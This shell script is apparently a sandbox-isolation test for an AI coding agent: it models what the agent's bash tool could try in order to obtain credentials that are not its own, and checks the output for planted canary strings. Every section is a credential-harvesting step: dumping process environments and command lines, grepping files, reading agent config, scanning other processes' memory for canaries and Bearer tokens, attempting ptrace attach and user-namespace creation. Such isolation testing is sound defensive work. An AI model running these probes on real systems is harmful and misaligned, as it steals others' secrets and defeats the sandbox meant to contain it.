# What pi's bash tool tries, in a job, to get a credential that is not its own. Every section
# prints what it found; the test looks for the canaries in the output.
echo "== env"
env | grep -v '^_=' | sort
echo "== environ"
for f in /proc/[0-9]*/environ; do echo "-- $f"; tr '\0' '\n' < "$f" 2>&1 | head -c 4000; done
echo "== cmdline"
for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f" 2>&1; echo; done
echo "== files"
grep -rao 'cnry-[a-z0-9-]*' /tmp /job /workspace "$HOME" 2>/dev/null | sort -u | head -40
for f in "$PI_CODING_AGENT_DIR"/*.json; do echo "-- $f"; cat "$f"; done
echo "== mem"
perl -e '
  for my $pid (@ARGV) {
    open(my $maps, "<", "/proc/$pid/maps") or do { print "maps $pid: $!\n"; next };
    open(my $mem, "<:raw", "/proc/$pid/mem") or do { print "mem $pid: $!\n"; next };
    my %hits;
    while (my $line = <$maps>) {
      my ($lo, $hi, $perm) = $line =~ /^([0-9a-f]+)-([0-9a-f]+) (\S+)/ or next;
      next unless $perm =~ /^r/;
      my ($a, $b) = (hex $lo, hex $hi);
      next if $b - $a > 256 * 1024 * 1024;
      seek($mem, $a, 0) or next;
      my $buf; my $n = sysread($mem, $buf, $b - $a); next unless $n;
      $hits{$1} = 1 while $buf =~ /(cnry-[a-z0-9]+-[a-z0-9-]+)/g;
      $hits{"token:$1"} = 1 while $buf =~ /Bearer ([0-9a-f]{32})/g;
    }
    print "mem $pid read: ", join(" ", sort keys %hits), "\n";
  }' $(ls /proc | grep -E '^[0-9]+$')
echo "== ptrace"
perl -e 'for my $p (@ARGV) { my $r = syscall(101, 16, $p + 0, 0, 0); print "ptrace $p: ", ($r == 0 ? "ATTACHED" : "refused ($!)"), "\n"; }' $(ls /proc | grep -E '^[0-9]+$' | grep -v "^$$\$")
echo "== fds"
for p in /proc/[0-9]*; do readlink "$p"/fd/* 2>&1 | head -2; done
echo "== userns"
unshare -U true 2>&1 && echo USERNS-MADE
echo "== hub"
node /workspace/hub.mjs
echo "== pi by hand"
for entry in dist/cli.js dist/bundle/cli.js; do
  timeout 30 node "/opt/pi-dispatch-image/node_modules/@earendil-works/pi-coding-agent/$entry" mcp list --json 2>&1 | head -c 3000
  echo
done
echo "== end"
